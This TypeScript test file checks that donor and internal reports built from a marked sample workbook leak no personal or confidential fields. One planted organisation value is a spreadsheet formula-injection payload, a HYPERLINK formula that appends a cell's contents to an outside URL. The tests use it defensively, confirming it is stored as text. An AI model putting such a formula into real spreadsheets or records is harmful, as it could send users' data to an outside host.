import {
  generateSample,
  planToRawWorkbook,
  listLabel,
  SHEETS,
  type Lang,
  type RawCell,
  type ReportAudience,
  type SheetPlan,
  type WorkbookPlan,
} from '../../../core';
import { unzipText } from '../../../../test/helpers/xlsxParts';
import { reportBytes, reportModel, YEAR } from '../../../../test/report/sampleReport';

/**
 * The privacy test of report.md: a workbook whose personal and confidential texts carry
 * unique markers; both reports are unzipped and every part searched for them.
 */
const PERSONAL = [
  'EMAILMARK',
  'PHONEMARK',
  'DELEGATEMARK',
  'SITEMARK',
  'DESCMARK',
  'CONFIDMARK',
  'CONTACTMARK',
  'NOTESMARK',
  'INITCONTACTMARK',
  'INITNOTESMARK',
] as const;

/**
 * The marker planted in each column the contract flags as never exported (`neverExported`: never,
 * or never to donors). A column flagged later without a marker here fails the first test.
 */
const NEVER_EXPORTED: Readonly<Record<string, string>> = {
  'members.name': 'NAMEMARK',
  'members.email': 'EMAILMARK',
  'members.phone': 'PHONEMARK',
  'meetings.expert': 'EXPERTMARK',
  'attendance.delegate': 'DELEGATEMARK',
  'incidents.site': 'SITEMARK',
  'incidents.description': 'DESCMARK',
  'stakeholders.contact': 'CONTACTMARK',
  'stakeholders.notes': 'NOTESMARK',
  'initiatives.contact': 'INITCONTACTMARK',
  'initiatives.notes': 'INITNOTESMARK',
};

/** A stakeholder's organisation starting like a formula: written as text, never run. */
const FORMULA = '=HYPERLINK("http://example.org/?q="&A1,"FORMULAMARK")';

function mark(plan: WorkbookPlan, lang: Lang): WorkbookPlan {
  const yes = listLabel('boolean', 'yes', lang);
  const sheets = plan.sheets.map((sheet): SheetPlan => {
    const col = (key: string): number => sheet.columns.findIndex((c) => c.key === key);
    const set = (row: RawCell[], key: string, value: RawCell): void => {
      const i = col(key);
      if (i >= 0) row[i] = value;
    };
    let nonMembers = 0;
    const rows = sheet.rows.map((source, n) => {
      const row = [...source];
      for (const c of sheet.columns) {
        const marker = NEVER_EXPORTED[`${sheet.key}.${c.key}`];
        if (marker) set(row, c.key, `${marker}${n}Z`);
      }
      // Free-text topics: the internal report lists them, the donor report counts them together.
      if (sheet.key === 'meetings') set(row, 'topics', `TOPICMARK${n}Z`);
      // An organisation that is not (yet) a member: never named to donors; the first starts like a formula.
      if (sheet.key === 'stakeholders' && blank(row[col('memberId')])) {
        set(row, 'organisation', nonMembers === 0 ? FORMULA : `ORGMARK${n}Z`);
        nonMembers++;
      }
      if (sheet.key === 'incidents') {
        if (n % 3 === 0) {
          // A confidential incident: every text of it is a marker (its ID, place, referral).
          set(row, 'confidential', yes);
          set(row, 'incidentId', `CONFIDMARK-ID${n}Z`);
          set(row, 'territory', `CONFIDMARK-TERRITORY${n}Z`);
          set(row, 'referredTo', `CONFIDMARK-REFERRED${n}Z`);
        }
      }
      return row;
    });
    return { ...sheet, rows };
  });
  return { ...plan, sheets };
}

const blank = (cell: RawCell | undefined): boolean => cell === null || cell === undefined || cell === '';

async function partsText(bytes: Uint8Array): Promise<Map<string, string>> {
  return unzipText(bytes);
}

function found(parts: Map<string, string>, pattern: RegExp): string[] {
  const hits = new Set<string>();
  for (const text of parts.values()) for (const m of text.matchAll(pattern)) hits.add(m[0]);
  return [...hits].sort();
}

describe.each(['fr', 'en'] as const)('the written report holds no personal or confidential text (%s)', (lang) => {
  const raw = planToRawWorkbook(mark(generateSample({ lang }), lang));
  const written = async (audience: ReportAudience) => {
    const model = reportModel(raw, YEAR, audience);
    return { model, parts: await partsText(await reportBytes(model, lang)) };
  };

  it('the marked workbook is usable: confidential incidents are in the figures', () => {
    const model = reportModel(raw, YEAR, 'internal');
    expect(model.incidents.kind).toBe('figures');
    const rows = model.incidents.kind === 'figures' ? (model.incidents.rows ?? []) : [];
    const recorded = model.incidents.kind === 'figures' ? model.incidents.recorded : null;
    expect(recorded?.kind === 'count' && recorded.value).toBeGreaterThan(rows.length);
  });

  it('every column the contract never exports carries a marker', () => {
    const flagged = SHEETS.flatMap((sheet) =>
      sheet.fields.filter((f) => f.neverExported).map((f) => `${sheet.key}.${f.key}`),
    );
    expect(flagged.sort()).toEqual(Object.keys(NEVER_EXPORTED).sort());
  });

  it('donor report: no marker at all, in any part of the file', async () => {
    const { model, parts } = await written('donor');
    expect(parts.size).toBeGreaterThan(10);
    expect(found(parts, /[A-Z]+MARK[-A-Z]*\d+Z/g)).toEqual([]);
    expect(found(parts, /FORMULAMARK/g)).toEqual([]);
    // The Outreach and Expertise sheets are there, with their counts: the markers are left out, not the sheets.
    expect(model.outreach.kind === 'figures' && model.outreach.figures.mapped).toBeGreaterThan(0);
    expect(model.expertise.otherTopics?.topics).toBeGreaterThan(0);
  });

  it('internal report: no email, phone, delegate, site, description or confidential text; names only of members at risk', async () => {
    const { model, parts } = await written('internal');
    for (const marker of PERSONAL) expect(found(parts, new RegExp(`${marker}[-A-Z]*\\d+Z`, 'g'))).toEqual([]);
    const atRisk = (model.membership.atRisk ?? []).map((m) => m.name).sort();
    expect(atRisk.length).toBeGreaterThan(0);
    expect(found(parts, /NAMEMARK\d+Z/g)).toEqual(atRisk);
    // The search does find what is there: the internal report lists meeting topics.
    expect(found(parts, /TOPICMARK\d+Z/g).length).toBeGreaterThan(0);
    // … the mapped organisations, members or not, and the experts of the period's sessions.
    expect(found(parts, /ORGMARK\d+Z/g).length).toBeGreaterThan(0);
    const experts = (model.expertise.sessionList ?? []).flatMap((s) => (s.expert === null ? [] : [s.expert]));
    expect(experts.length).toBeGreaterThan(0);
    expect(found(parts, /EXPERTMARK\d+Z/g)).toEqual([...new Set(experts)].sort());
  });

  it('internal report: an organisation written like a formula is text, never a formula', async () => {
    const { parts } = await written('internal');
    expect(found(parts, /FORMULAMARK/g)).toEqual(['FORMULAMARK']);
    for (const [name, xml] of parts) if (name.startsWith('xl/worksheets/')) expect(xml).not.toMatch(/<f[ >]/);
  });
});
